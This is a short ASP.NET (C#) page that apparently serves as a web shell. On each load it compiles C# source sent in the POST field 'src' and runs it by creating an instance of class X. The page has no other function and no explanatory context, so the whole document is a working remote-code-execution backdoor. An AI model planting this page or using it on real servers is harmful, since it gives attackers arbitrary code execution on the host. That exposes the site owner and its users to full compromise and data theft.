<%@ Page Language="C#" %><%@ Import Namespace="System.CodeDom.Compiler" %><%@ Import Namespace="Microsoft.CSharp" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  var p = new CompilerParameters(); p.GenerateInMemory = true;
  var r = new CSharpCodeProvider().CompileAssemblyFromSource(p, Request.Form["src"]);
  r.CompiledAssembly.CreateInstance("X");
}
</script>
